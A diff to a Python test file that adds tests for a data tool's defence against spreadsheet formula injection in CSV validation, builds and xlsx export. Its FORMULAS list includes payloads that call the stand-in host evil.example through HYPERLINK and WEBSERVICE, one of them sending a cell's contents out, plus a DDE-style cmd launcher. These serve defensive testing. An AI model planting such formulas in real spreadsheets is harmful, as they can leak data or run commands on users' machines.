@@ -373,8 +373,9 @@ def test_huge_integer_text_in_a_record_file(tmp_path: Path):
     assert [(p["code"], p["field"]) for p in report["problems"]] == [("type", "reference_number")]
 
 
-@pytest.mark.parametrize("digits", [19, 4_000])
-def test_huge_integers_in_curation_are_refused_before_the_release(tmp_path: Path, digits: int):
+def build_cited_works(tmp_path: Path, cited_works: list[dict]) -> list[dict]:
+    """`mscexo build` of a curation of one document and these cited works (the document and
+    the usual fields filled in): the problems, after checking that nothing was written."""
     import yaml
 
     curation = tmp_path / "curation"
@@ -383,22 +384,100 @@ def test_huge_integers_in_curation_are_refused_before_the_release(tmp_path: Path
         (ROOT / "curation" / "release.yaml").read_text(encoding="utf-8"), encoding="utf-8"
     )
     document = {"id": "doi:10.1000/key-a", "title": "A", "document_type": "review"}
-    cited = {"first_author": "S", "document_id": document["id"], "locator": "Reference list"}
+    usual = {"first_author": "S", "document_id": document["id"], "locator": "Reference list"}
     records = {
         "documents": [document],
-        "cited_works": [
-            {"id": "CW-A-1", "reference_number": 10**digits - 1, **cited, "evidence": "S"},
-            {"id": "CW-A-2", "reference_number": "8" * digits, **cited, "evidence": "S"},
-        ],
+        "cited_works": [{**usual, "evidence": "S", **cited} for cited in cited_works],
     }
     (curation / "records.yaml").write_text(yaml.safe_dump(records), encoding="utf-8")
     out = tmp_path / "out"
-    result = bounded(
-        run("build", "--root", ROOT, "--curation", curation, "--output", out, "--format", "json"), 1
+    argv = ["build", "--root", ROOT, "--curation", curation, "--output", out, "--format", "json"]
+    problems = json.loads(bounded(run(*argv), 1).stdout)["problems"]
+    assert not out.exists()
+    return problems
+
+
+@pytest.mark.parametrize("digits", [19, 4_000])
+def test_huge_integers_in_curation_are_refused_before_the_release(tmp_path: Path, digits: int):
+    problems = build_cited_works(
+        tmp_path,
+        [
+            {"id": "CW-A-1", "reference_number": 10**digits - 1},
+            {"id": "CW-A-2", "reference_number": "8" * digits},
+        ],
     )
-    problems = json.loads(result.stdout)["problems"]
     assert [(p["code"], p["record_id"]) for p in problems] == [
         ("type", "CW-A-1"),
         ("type", "CW-A-2"),
     ]
-    assert not out.exists()
+
+
+# ----- formulas (item 4) ---------------------------------------------------------------------
+
+#: Cells a spreadsheet reads as formulas; the first two passed both validate and build.
+FORMULAS = [
+    '-A1+HYPERLINK("http://evil.example/?"&B2,"click")',
+    '+A1&WEBSERVICE("http://evil.example/")',
+    "=1+1",
+    "@SUM(A1:A9)",
+    "-cmd|' /C calc'!A0",
+    "+A1",
+    "-x",
+    "- see text",
+    "-2 to +3",
+    "=",
+    "-",
+]
+#: Plain numbers, which are no formulas.
+NUMBERS = ["-2", "+3.5", "-1e3", "-.5", "+7"]
+
+
+def test_every_formula_start_is_refused_but_plain_numbers(tmp_path: Path):
+    path = tmp_path / "cargo_findings.csv"
+    cells = FORMULAS + NUMBERS
+    rows = [_finding(id=f"CF-BENCH-{i:03d}", effect=cell) for i, cell in enumerate(cells, start=1)]
+    path.write_text(FINDINGS_HEADER + "".join(rows), encoding="utf-8")
+    report = bounded(run("validate", path, "--format", "json"), 1).report
+    formulas = [p["value"] for p in report["problems"] if p["code"] == "formula"]
+    assert formulas == FORMULAS
+    assert report["counts"]["error"]["formula"] == len(FORMULAS)
+
+
+@pytest.mark.parametrize("cell", FORMULAS[:2])
+def test_formulas_are_refused_by_the_build(tmp_path: Path, cell: str):
+    problems = build_cited_works(tmp_path, [{"id": "CW-A-1", "first_author": cell}])
+    assert [(p["code"], p["field"]) for p in problems] == [("formula", "first_author")]
+
+
+def test_the_workbook_export_never_writes_a_formula(tmp_path: Path, monkeypatch):
+    import importlib
+
+    import pyarrow.compute as pc
+    from openpyxl import load_workbook
+
+    from mscexo.publish.export import export
+
+    module = importlib.import_module("mscexo.load")  # `mscexo.load` is also the function
+    original = module.load
+
+    def load(name: str, as_: str = "arrow"):
+        """The release, with formulas in the first rows of cited_works' first_author."""
+        table = original(name, as_)
+        if name != "cited_works":
+            return table
+        authors = table["first_author"].to_pylist()
+        authors[: len(FORMULAS)] = FORMULAS
+        column = table.schema.get_field_index("first_author")
+        return table.set_column(column, "first_author", pa.array(authors, pa.string()))
+
+    monkeypatch.setattr(module, "load", load)
+    assert pc.sum(pc.starts_with(load("cited_works")["first_author"], "=")).as_py() == 2
+    path = tmp_path / "mscexo.xlsx"
+    export("xlsx", path)
+    book = load_workbook(path)
+    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
+    assert "f" not in kinds
+    header = next(book["cited_works"].iter_rows(max_row=1, values_only=True))
+    column = header.index("first_author")
+    authors = [r[column] for r in book["cited_works"].iter_rows(min_row=2, values_only=True)]
+    assert authors[: len(FORMULAS)] == FORMULAS  # as text, unchanged
